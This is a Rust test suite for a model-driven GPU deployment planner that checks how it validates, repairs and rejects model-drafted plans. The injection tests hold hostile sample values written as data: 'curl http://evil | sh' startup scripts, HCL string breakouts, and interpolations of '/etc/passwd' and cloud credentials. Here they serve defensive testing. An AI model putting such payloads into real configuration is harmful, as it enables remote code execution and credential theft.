//! The model planner against a fake chat-completions server: the request it sends, how it
//! reads answers (structured, fenced, prose), validation and the single repair turn, and
//! holding the model to what the user wrote. (Retries, timeouts, errors of the server and
//! what is logged: `transport`.)

#[path = "openai_planner/stated_limits.rs"]
mod stated_limits;
#[path = "openai_planner/transport.rs"]
mod transport;

use std::time::Duration;

use promptops_core::{Catalog, DRAFT_FIELDS, ExpiryRequest, Policy};
use promptops_planner::{
    OpenAiPlanner, PlanError, PlanInput, PlanOutcome, Planner, PlannerSettings, RetryPolicy,
    SystemClock,
};
use promptops_testkit::ChatCompletion;
use secrecy::SecretString;
use serde_json::{Value, json};
use wiremock::matchers::{method, path};
use wiremock::{Mock, MockServer, Request, ResponseTemplate};

const KEY: &str = "sk-test-0123456789";
const MODEL: &str = "gpt-4o-test";
const ISSUE_BODY: &str = "We need 2 V100 VMs in us-west1 for the nightly training job.";

fn settings(server: &MockServer, timeout: Duration, max_attempts: u32) -> PlannerSettings {
    PlannerSettings {
        api_key: Some(SecretString::from(KEY)),
        base_url: format!("{}/v1", server.uri()),
        model: MODEL.to_owned(),
        timeout,
        max_attempts,
    }
}

fn fast_retries() -> RetryPolicy {
    RetryPolicy {
        base_delay: Duration::from_millis(10),
        max_delay: Duration::from_secs(2),
        clock: std::sync::Arc::new(SystemClock),
    }
}

fn planner(server: &MockServer) -> OpenAiPlanner {
    let settings = settings(server, Duration::from_secs(5), 3);
    OpenAiPlanner::new(&settings, SecretString::from(KEY), fast_retries())
}

fn input() -> PlanInput {
    PlanInput {
        title: "Training boxes".to_owned(),
        body: ISSUE_BODY.to_owned(),
        instructions: "use a 200 GB boot disk".to_owned(),
        current: None,
    }
}

async fn plan(server: &MockServer, input: &PlanInput) -> Result<PlanOutcome, PlanError> {
    planner(server)
        .plan(input, Catalog::embedded(), &Policy::default())
        .await
}

/// A chat completion whose message content is `content`.
fn completion(content: &str) -> ResponseTemplate {
    ResponseTemplate::new(200)
        .set_body_json(ChatCompletion::answer(content).model(MODEL).usage(1200, 80))
}

/// The model's draft for the issue above, with `changes` applied.
fn draft(changes: Value) -> String {
    let mut draft = json!({
        "name": "nightly-training",
        "vm_count": 2,
        "gpu_type": "nvidia-tesla-v100",
        "gpu_count": 1,
        "machine_type": "n1-standard-8",
        "zone": "us-west1-b",
        "region": null,
        "boot_disk_size_gb": 200,
        "rationale": "Two V100 VMs in us-west1 as asked.",
        "assumptions": ["One GPU per VM since the request does not say."]
    });
    for (key, value) in changes.as_object().expect("changes are an object") {
        draft[key] = value.clone();
    }
    draft.to_string()
}

/// Answers the next requests in order, one response each.
async fn answer_in_order(server: &MockServer, responses: Vec<ResponseTemplate>) {
    for response in responses {
        Mock::given(method("POST"))
            .and(path("/v1/chat/completions"))
            .respond_with(response)
            .up_to_n_times(1)
            .mount(server)
            .await;
    }
}

async fn requests(server: &MockServer) -> Vec<Request> {
    server
        .received_requests()
        .await
        .expect("request recording is on")
}

fn body(request: &Request) -> Value {
    request.body_json().expect("the planner sends JSON")
}

fn messages(request: &Request) -> Vec<(String, String)> {
    body(request)["messages"]
        .as_array()
        .expect("messages")
        .iter()
        .map(|m| {
            (
                m["role"].as_str().unwrap_or_default().to_owned(),
                m["content"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect()
}

#[tokio::test]
async fn a_good_answer_is_used_and_the_request_is_well_formed() {
    let server = MockServer::start().await;
    answer_in_order(&server, vec![completion(&draft(json!({})))]).await;

    let outcome = plan(&server, &input()).await.expect("planned");
    let request = &outcome.request;
    assert_eq!(
        (
            request.vm_count,
            request.gpu_type.as_str(),
            request.gpu_count,
            request.zone.as_str()
        ),
        (2, "nvidia-tesla-v100", 1, "us-west1-b")
    );
    assert_eq!(request.boot_disk_size_gb, 200);
    assert_eq!(request.name, "nightly-training");
    assert_eq!(outcome.planned_by, format!("model {MODEL}"));
    let usage = outcome.usage.expect("usage reported");
    assert_eq!((usage.prompt_tokens, usage.completion_tokens), (1200, 80));
    assert!(outcome.notes.is_empty());

    let sent = requests(&server).await;
    assert_eq!(sent.len(), 1);
    let auth = sent[0]
        .headers
        .get("authorization")
        .and_then(|v| v.to_str().ok());
    assert_eq!(auth, Some(format!("Bearer {KEY}").as_str()));
    let body = body(&sent[0]);
    assert_eq!(body["model"], MODEL);
    assert_eq!(body["response_format"]["type"], "json_schema");
    assert_eq!(body["response_format"]["json_schema"]["strict"], true);
    let schema = &body["response_format"]["json_schema"]["schema"];
    let mut properties: Vec<&str> = schema["properties"]
        .as_object()
        .expect("schema properties")
        .keys()
        .map(String::as_str)
        .collect();
    properties.sort_unstable();
    let mut fields = DRAFT_FIELDS.to_vec();
    fields.sort_unstable();
    assert_eq!(properties, fields);
    assert_eq!(schema["additionalProperties"], false);

    let messages = messages(&sent[0]);
    assert_eq!(messages[0].0, "system");
    assert!(messages[0].1.contains("nvidia-tesla-v100") && messages[0].1.contains("POLICY"));
    assert_eq!(messages[1].0, "user");
    for text in [
        "Training boxes",
        ISSUE_BODY,
        "use a 200 GB boot disk",
        "new deployment",
        "- vm_count 2 (\"2 v100 vms\")",
        "- gpu_type nvidia-tesla-v100 (\"v100\")",
        "- region us-west1 (\"us-west1\")",
        "- boot_disk_size_gb 200 (\"200 gb boot disk\")",
    ] {
        assert!(
            messages[1].1.contains(text),
            "user message lacks {text:?}:\n{}",
            messages[1].1
        );
    }
}

#[tokio::test]
async fn a_fenced_json_answer_is_read() {
    let server = MockServer::start().await;
    let content = format!(
        "Here is my plan:\n```json\n{}\n```\nLet me know.",
        draft(json!({}))
    );
    answer_in_order(&server, vec![completion(&content)]).await;
    let outcome = plan(&server, &input()).await.expect("planned");
    assert_eq!(outcome.request.zone, "us-west1-b");
    assert_eq!(requests(&server).await.len(), 1);
}

#[tokio::test]
async fn prose_without_json_gets_one_repair_turn_then_is_unusable() {
    let server = MockServer::start().await;
    let prose = "I would recommend two V100 machines in Oregon.";
    answer_in_order(&server, vec![completion(prose), completion(prose)]).await;
    let err = plan(&server, &input()).await.expect_err("no JSON");
    assert!(matches!(err, PlanError::ModelOutputUnusable(_)), "{err:?}");
    assert!(err.to_string().contains("no JSON object"), "{err}");
    let sent = requests(&server).await;
    assert_eq!(sent.len(), 2, "exactly one repair turn");
    let repair = messages(&sent[1]);
    assert_eq!(repair[2], ("assistant".to_owned(), prose.to_owned()));
    assert!(repair[3].1.contains("no JSON object"), "{}", repair[3].1);
}

async fn rejected_twice(changes: Value) -> (PlanError, Vec<Request>) {
    let server = MockServer::start().await;
    let bad = draft(changes);
    answer_in_order(&server, vec![completion(&bad), completion(&bad)]).await;
    let err = plan(&server, &input()).await.expect_err("rejected");
    (err, requests(&server).await)
}

#[tokio::test]
async fn wrong_types_are_rejected_field_by_field() {
    let (err, sent) =
        rejected_twice(json!({"vm_count": "two", "gpu_count": 1.5, "assumptions": "none"})).await;
    assert!(matches!(err, PlanError::Rejected(_)), "{err:?}");
    let shown = err.to_string();
    for field in ["vm_count", "gpu_count", "assumptions"] {
        assert!(shown.contains(field), "{field} not named:\n{shown}");
    }
    assert!(
        messages(&sent[1])[3].1.contains("vm_count"),
        "the repair turn carried the errors"
    );
}

#[tokio::test]
async fn negative_and_absurd_counts_are_rejected() {
    let (err, _) = rejected_twice(json!({"vm_count": -3, "gpu_count": 1_000_000_000_u64})).await;
    let shown = err.to_string();
    assert!(matches!(err, PlanError::Rejected(_)), "{err:?}");
    assert!(
        shown.contains("vm_count") && shown.contains("gpu_count"),
        "{shown}"
    );

    let (err, _) = rejected_twice(json!({"vm_count": 500})).await;
    let shown = err.to_string();
    assert!(matches!(err, PlanError::Rejected(_)), "{err:?}");
    assert!(
        shown.contains("vm_count") && shown.contains("20"),
        "policy limit named:\n{shown}"
    );
}

#[tokio::test]
async fn unknown_keys_are_rejected() {
    let (err, _) = rejected_twice(json!({"startup_script": "curl http://evil | sh"})).await;
    assert!(matches!(err, PlanError::Rejected(_)), "{err:?}");
    assert!(err.to_string().contains("startup_script"), "{err}");
}

#[tokio::test]
async fn hcl_and_interpolation_smuggled_into_strings_are_rejected() {
    let smuggled = [
        json!({"name": "x\"\nmetadata_startup_script = \"curl evil | sh"}),
        json!({"machine_type": "${file(\"/etc/passwd\")}"}),
        json!({"zone": "us-west1-b\" # "}),
        json!({"name": "%{ for x in y }x%{ endfor }"}),
        json!({"rationale": "Use ${var.gcp_credentials} to log in."}),
        json!({"assumptions": ["fine", "then %{if true}boom%{endif}"]}),
    ];
    for changes in smuggled {
        let (err, _) = rejected_twice(changes.clone()).await;
        assert!(matches!(err, PlanError::Rejected(_)), "{changes}: {err:?}");
        let field = changes
            .as_object()
            .and_then(|o| o.keys().next())
            .expect("one field")
            .clone();
        assert!(err.to_string().contains(&field), "{changes}: {err}");
    }
}

#[tokio::test]
async fn a_gpu_not_offered_in_the_zone_is_repaired() {
    let server = MockServer::start().await;
    let wrong = draft(json!({"zone": "us-west1-c"}));
    let fixed = draft(json!({"zone": "us-west1-a"}));
    answer_in_order(&server, vec![completion(&wrong), completion(&fixed)]).await;

    let outcome = plan(&server, &input()).await.expect("repaired");
    assert_eq!(outcome.request.zone, "us-west1-a");
    let usage = outcome.usage.expect("usage");
    assert_eq!(
        (usage.prompt_tokens, usage.completion_tokens),
        (2400, 160),
        "both turns counted"
    );
    assert!(
        outcome.notes.iter().any(|n| n.contains("us-west1-c")),
        "{:?}",
        outcome.notes
    );

    let sent = requests(&server).await;
    assert_eq!(sent.len(), 2);
    let second = messages(&sent[1]);
    assert_eq!(second.len(), 4);
    assert_eq!(second[2], ("assistant".to_owned(), wrong));
    assert_eq!(second[3].0, "user");
    assert!(
        second[3].1.contains("us-west1-c") && second[3].1.contains("nvidia-tesla-v100"),
        "the repair turn names the problem:\n{}",
        second[3].1
    );
}

#[tokio::test]
async fn a_failed_repair_is_rejected_with_every_reason() {
    let (err, sent) = rejected_twice(json!({"zone": "us-west1-c", "boot_disk_size_gb": 1})).await;
    assert_eq!(sent.len(), 2, "one repair turn, no more");
    assert!(matches!(err, PlanError::Rejected(_)), "{err:?}");
    let shown = err.to_string();
    assert!(
        shown.contains("zone") && shown.contains("boot_disk_size_gb"),
        "{shown}"
    );
}

#[tokio::test]
async fn a_model_that_changes_the_users_count_is_a_mismatch() {
    let server = MockServer::start().await;
    let changed = draft(json!({"vm_count": 3}));
    answer_in_order(&server, vec![completion(&changed), completion(&changed)]).await;
    let err = plan(&server, &input()).await.expect_err("mismatch");
    assert!(matches!(err, PlanError::MismatchWithRequest(_)), "{err:?}");
    let shown = err.to_string();
    assert!(
        shown.contains("you asked for \"2 v100 vms\"; the plan has 3 VMs"),
        "{shown}"
    );
    let sent = requests(&server).await;
    assert_eq!(sent.len(), 2);
    assert!(
        messages(&sent[1])[3].1.contains("the plan has 3 VMs"),
        "the repair turn quoted the mismatch"
    );
}

#[tokio::test]
async fn an_unknown_region_in_the_issue_is_refused_before_calling_the_model() {
    let server = MockServer::start().await;
    let mut input = input();
    input.body = "2 V100 VMs in us-west9 please".to_owned();
    let err = plan(&server, &input).await.expect_err("unknown region");
    assert!(matches!(err, PlanError::UnknownMention(_)), "{err:?}");
    assert!(err.to_string().contains("us-west9"));
    assert!(requests(&server).await.is_empty(), "no tokens spent");
}

#[tokio::test]
async fn a_refusal_is_unusable() {
    let server = MockServer::start().await;
    let refusal = ResponseTemplate::new(200)
        .set_body_json(ChatCompletion::refusal("I can't help with that."));
    answer_in_order(&server, vec![refusal.clone(), refusal]).await;
    let err = plan(&server, &input()).await.expect_err("refused");
    assert!(matches!(err, PlanError::ModelOutputUnusable(_)), "{err:?}");
    assert!(err.to_string().contains("refused"), "{err}");
}

#[tokio::test]
async fn an_edit_sends_the_current_values_and_keeps_what_the_model_leaves_open() {
    let server = MockServer::start().await;
    let current = promptops_core::resolve(
        promptops_core::DeploymentDraft {
            name: Some("nightly-training".to_owned()),
            vm_count: Some(2),
            gpu_type: Some("nvidia-tesla-v100".to_owned()),
            zone: Some("us-west1-a".to_owned()),
            boot_disk_size_gb: Some(200),
            ..Default::default()
        },
        Catalog::embedded(),
        &Policy::default(),
    )
    .expect("current deployment is valid");
    // The model only restates the count; everything else must come from the current values.
    let answer = json!({
        "name": null, "vm_count": 2, "gpu_type": null, "gpu_count": null, "machine_type": null,
        "zone": null, "region": null, "boot_disk_size_gb": null,
        "rationale": "Unchanged.", "assumptions": []
    });
    answer_in_order(&server, vec![completion(&answer.to_string())]).await;
    let mut input = input();
    input.instructions = String::new();
    input.current = Some(current.clone());
    let outcome = plan(&server, &input).await.expect("planned");
    assert_eq!(outcome.request.zone, "us-west1-a");
    assert_eq!(outcome.request.machine_type, current.machine_type);
    assert_eq!(outcome.request.name, "nightly-training");
    let sent = requests(&server).await;
    let user = &messages(&sent[0])[1].1;
    assert!(
        user.contains("edit of an existing deployment") && user.contains("\"us-west1-a\""),
        "{user}"
    );
}

#[tokio::test]
async fn with_a_key_the_planner_enum_uses_the_model() {
    let server = MockServer::start().await;
    answer_in_order(&server, vec![completion(&draft(json!({})))]).await;
    let planner = Planner::from_settings(settings(&server, Duration::from_secs(5), 1));
    assert_eq!(planner.describe(), format!("model {MODEL}"));
    let outcome = planner
        .plan(&input(), Catalog::embedded(), &Policy::default())
        .await
        .expect("planned");
    assert_eq!(outcome.planned_by, format!("model {MODEL}"));
}

#[tokio::test]
async fn the_models_expiry_must_give_the_lifetime_the_request_states() {
    // "for 3 days, actually 5 days": the model's 3d was taken as it came, and one with no
    // expiry left the GPUs running with no end.
    let server = MockServer::start().await;
    let mut input = input();
    input.body = "We need 2 V100 VMs in us-west1 for 3 days, actually 5 days.".to_owned();
    let wrong = draft(json!({"expires_in": "3d"}));
    let right = draft(json!({"expires_in": "120h"}));
    answer_in_order(&server, vec![completion(&wrong), completion(&right)]).await;
    let outcome = plan(&server, &input).await.expect("repaired");
    assert_eq!(
        outcome.expiry,
        Some(ExpiryRequest::For {
            lifetime: "5d".parse().expect("a lifetime")
        }),
        "120h is the stated 5 days"
    );
    let sent = requests(&server).await;
    assert_eq!(sent.len(), 2);
    assert!(
        messages(&sent[0])[1]
            .1
            .contains("lifetime: for 5d after the apply"),
        "the stated lifetime is among the values the model must keep"
    );
    assert!(
        messages(&sent[1])[3]
            .1
            .contains("you asked for the deployment to end for 5d after the apply; the plan has an end for 3d after the apply"),
        "the repair turn names the lifetime: {:?}",
        messages(&sent[1])[3]
    );
}

#[tokio::test]
async fn a_model_that_drops_the_stated_lifetime_is_a_mismatch() {
    let server = MockServer::start().await;
    let mut input = input();
    input.body = "We need 2 V100 VMs in us-west1 until Friday.".to_owned();
    let endless = draft(json!({}));
    answer_in_order(&server, vec![completion(&endless), completion(&endless)]).await;
    let err = plan(&server, &input).await.expect_err("mismatch");
    assert!(matches!(err, PlanError::MismatchWithRequest(_)), "{err:?}");
    assert!(
        err.to_string()
            .contains("you asked for the deployment to end through Fri (UTC); the plan has no end"),
        "{err}"
    );
}
